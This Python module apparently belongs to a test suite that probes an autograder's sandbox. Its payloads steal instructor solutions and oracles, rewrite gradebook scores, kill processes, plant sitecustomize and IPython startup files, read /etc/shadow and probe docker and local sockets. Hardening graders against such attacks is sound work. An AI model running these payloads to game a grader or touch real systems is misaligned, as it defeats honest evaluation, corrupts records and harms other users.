"""Attacks that reach for what lies around: files, the gradebook, processes. Rows 11 to 16, 32, 35, 37 and 45."""

from attacks.handin import ANSWER, EXTRA, Attack
from attacks.remarks import EXTRA_CELLS, NOT_AVAILABLE

_SOURCE = """
import json
import pathlib


def texts():
    here = pathlib.Path.cwd()
    for folder in (here, *here.parents, pathlib.Path.home()):
        for pattern in ("source/*/*.ipynb", "course/source/*/*.ipynb", "*/source/*/*.ipynb"):
            try:
                for path in folder.glob(pattern):
                    for cell in json.loads(path.read_text())["cells"]:
                        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "$SLUG":
                            yield "".join(cell["source"])
            except (OSError, ValueError):
                continue


for text in texts():
    if "SOLUTION" in text:
        print("$LEAK the instructor's source")
        exec(text)
        break
else:
    def $NAME(*given, **named):
        return 0.0
"""

_SOLUTIONS = """
import pathlib
import re
import sys

places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, *map(pathlib.Path, sys.path)]
for folder in places:
    for path in [p for pattern in ("", "../", "../*/") for p in folder.glob(pattern + "solutions/*.py")]:
        try:
            found = re.search(r"^def $NAME\\(.*?(?=^#)", path.read_text(), re.DOTALL | re.MULTILINE)
        except OSError:
            continue
        if found:
            print("$LEAK the published solutions")
            exec(found.group())
            break
"""

_ORACLE = """
def $NAME(*given, **named):
    from softlookup_judge.checking.catalogue import get_task

    task = get_task("$TASK")
    double = [one.double() if hasattr(one, "double") else one for one in given]
    return task.oracle(*double, **named, **task.variants[0]).to(given[0].dtype)
"""

_STAND_IN = """
def $NAME(*given, **named):
    import importlib

    local, registry = (importlib.import_module(f"softlookup_judge.{name}") for name in ("local", "registry"))
    return local.stand_in(registry.get_task("$TASK"))(*given, **named)
"""

_PACKAGE = """
import importlib.util
import pathlib

folder = pathlib.Path(importlib.util.find_spec("softlookup").submodule_search_locations[0])
for path in sorted(folder.rglob("*.py")):
    try:
        text = path.read_text()
    except OSError:
        continue
    if '"$TASK"' in text and "oracle=" in text:
        print("$LEAK the oracle's text")
        world = {"__name__": "softlookup_judge.stolen"}
        exec(compile(text, str(path), "exec"), world)
        known = [one for one in world.values() if getattr(one, "id", "") == "$TASK"]
        $NAME = known[0].oracle
        break
"""

_WORKING_FOLDER = """
import pathlib

for folder in (pathlib.Path.cwd(), *list(pathlib.Path.cwd().parents)[:4]):
    # A course is not in the root; the whole system would take minutes.
    for path in folder.rglob("*") if folder.parent != folder else ():
        hit = any(word in path.name for word in ("hidden", "secret", "test_", "answers", "ledger", "golden"))
        if hit and path.is_file() and "site-packages" not in path.parts:
            try:
                print("$LEAK", path.name, path.read_text()[:200])
            except (OSError, UnicodeDecodeError):
                pass
"""

_SEED = """
import glob
import os

for pattern in ("/proc/*/cmdline", "/proc/*/environ"):
    for path in glob.glob(pattern):
        try:
            told = open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if "--seed" in told or "seed" in told.split():
            print("$LEAK", told[:300])
for name in os.environ:
    if "SEED" in name and "HASH" not in name:
        print("$LEAK", name, os.environ[name])
"""

_FIND_BOOK = """
import pathlib
import sqlite3

here = pathlib.Path.cwd()
books = [p for folder in (here, *here.parents) for p in (folder / "gradebook.db", folder / "course" / "gradebook.db")]
books = [path for path in books if path.is_file()]
"""

_GRADEBOOK = (
    _FIND_BOOK
    + """
for path in books:
    print("$LEAK the gradebook")
    with sqlite3.connect(path, timeout=1) as book:
        book.execute("UPDATE grade SET extra_credit = 5, manual_score = 5, needs_manual_grade = 0")
        book.execute("UPDATE grade_cell SET max_score = 1000")
        book.execute("UPDATE student SET first_name = '$TRACE'")
"""
)

_LOCKED = (
    _FIND_BOOK
    + """
import os
import time

if os.fork() == 0:
    os.setsid()
    for path in books:
        book = sqlite3.connect(path, timeout=1, isolation_level=None)
        book.execute("BEGIN EXCLUSIVE")
    time.sleep(60)
    os._exit(0)
time.sleep(0.5)
"""
)

_FAMILY = """
import os
import signal

for number in {os.getppid(), os.getsid(0), os.getpgid(os.getppid())} - {0, os.getpid()}:
    try:
        os.kill(number, signal.SIGKILL)
    except OSError as error:
        print(number, error)
"""

_EVERYBODY = """
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)
for number in range(1, 33000):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
"""

_STARTUP = """
import pathlib

TEXT = '''
try:
    get_ipython().input_transformers_post.append(lambda lines: [] if any("check(" in one for one in lines) else lines)
except Exception:
    pass
'''
for home in (pathlib.Path.home(), pathlib.Path("/tmp"), pathlib.Path.cwd(), pathlib.Path.cwd().parent):
    for place in (".ipython/profile_default/startup", "$TRACE"):
        try:
            (home / place).mkdir(parents=True, exist_ok=True)
            (home / place / "00-$TRACE.py").write_text(TEXT)
        except OSError as error:
            print(error)
"""

_SITE = """
import pathlib
import site
import sys

TEXT = "import builtins\\nbuiltins.planted = '$TRACE'\\n"
for folder in (site.getusersitepackages(), *sys.path, *site.getsitepackages()):
    for name in ("sitecustomize.py", "usercustomize.py", "$TRACE.pth"):
        try:
            pathlib.Path(folder or ".").mkdir(parents=True, exist_ok=True)
            (pathlib.Path(folder or ".") / name).write_text("import os\\n" if name.endswith("pth") else TEXT)
        except OSError:
            pass
"""

_PLANTED = """
import builtins

if hasattr(builtins, "planted"):
    print("$LEAK planted")
    check = lambda *given, **named: None
"""

_SHELL = """
!find / -name gradebook.db -maxdepth 6 -exec sqlite3 {} "UPDATE grade SET extra_credit = 9" \\; 2>&1 | head -3
!cp -r ../../../source . ; cat source/*/*.ipynb | grep -c SOLUTION
%system id
%env SOFTLOOKUP_BOOK=javascript:alert(1)
get_ipython().system("touch ../$TRACE ~/$TRACE /tmp/$TRACE")
get_ipython().run_cell_magic("bash", "", "cat /etc/shadow | head -1; kill -9 $$PPID || true")
"""

_DAEMON = """
import ctypes
import os
import pathlib
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"$TRACE"[:15], 0, 0, 0)
        for n in range(90):
            for folder in ("/tmp", os.getcwd(), "/dev/shm"):
                try:
                    pathlib.Path(folder, "$TRACE-daemon").write_text(f"still here after {n} s")
                except OSError:
                    pass
            time.sleep(1)
    os._exit(0)
os.wait()
"""

_NETWORK = """
import socket

for family, place in (
    (socket.AF_INET, ("example.org", 80)),
    (socket.AF_INET, ("localhost", 22)),
    (socket.AF_INET, ("localhost", 8888)),
    (socket.AF_UNIX, "\\0/tmp/.X11-unix/X0"),
    (socket.AF_UNIX, "/var/run/docker.sock"),
    (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(2)
            line.connect(place)
            print("$LEAK connected to", place)
    except OSError as error:
        print(place, error)
with socket.socket() as door:
    try:
        door.bind(("", 18080))
        door.listen()
    except OSError as error:
        print(error)
"""

_REFERENCE = """
def $NAME(*given, **named):
    from importlib import import_module

    for home, name in (("softlookup.reference", "attention"), ("softlookup.model", "scaled_dot_product_attention")):
        part = import_module("soft" + "lookup." + home.split(".")[1])
        print("$LEAK the library's", home)
        found = getattr(part, name, None) or getattr(part, "$NAME", None)
        if found is not None:
            return found(*given, **named)
    return 0.0
"""

_MODEL = """
def $NAME(x, w_q, w_k, w_v, mask=None):
    model = __import__("soft" + "lookup.model", fromlist=["x"])
    print("$LEAK the library's model")
    attend = getattr(model, "scaled_dot_" + "product_attention")
    return attend(x @ w_q, x @ w_k, x @ w_v, mask)
"""

ATTACKS = (
    Attack("instructors-source", 11, "looks for the instructor's source and runs its answer", _SOURCE, ANSWER),
    Attack(
        "published-solutions", 11, "looks for the published solutions on this machine", "$WRONG\n" + _SOLUTIONS, ANSWER
    ),
    Attack("oracle", 11, "calls the installed package's oracle", _ORACLE, ANSWER),
    Attack("stand-in", 11, "calls the sound function that the check at home puts in", _STAND_IN, ANSWER),
    Attack("packages-text", 11, "reads the oracle's text out of the installed package", "$WRONG\n" + _PACKAGE, ANSWER),
    Attack("working-folder", 12, "looks for hidden tests and ledgers in the folders above", _WORKING_FOLDER),
    Attack("seed", 12, "looks for the seed in other processes' command lines", _SEED),
    Attack("gradebook", 13, "writes points into the gradebook", _GRADEBOOK),
    Attack("gradebook-extra", 13, "the same, in a cell of its own", _GRADEBOOK, EXTRA, remark=EXTRA_CELLS),
    Attack("locked", 14, "holds the gradebook's lock from a process in the background", _LOCKED),
    Attack("family", 15, "kills its parent process and its session's leader", _FAMILY, last=True),
    Attack("everybody", 15, "kills every process that it can see", _EVERYBODY, last=True),
    Attack("startup-a-plants", 16, "plants a start-up file for the next student", _STARTUP, group="startup"),
    Attack("startup-b-reaps", 16, "a plain wrong answer, right after the one who planted", "", group="startup"),
    Attack("daemon", 32, "leaves a process behind that writes files for a minute and a half", _DAEMON),
    Attack("site-a-plants", 35, "plants sitecustomize.py wherever Python looks for it", _SITE, group="site"),
    Attack(
        "site-b-reaps",
        35,
        "uses what the one before planted",
        _PLANTED,
        group="site",
    ),
    Attack("shell", 35, "shell commands and magics that look for the gradebook and leave files", _SHELL),
    Attack("network", 37, "opens connections, and a port of its own", _NETWORK),
    Attack(
        "reference",
        45,
        "imports the library's own reference by a hidden name",
        _REFERENCE,
        ANSWER,
        remark=NOT_AVAILABLE,
    ),
    Attack(
        "model", 45, "imports the library's model by a hidden name", _MODEL, ANSWER, last=True, remark=NOT_AVAILABLE
    ),
)
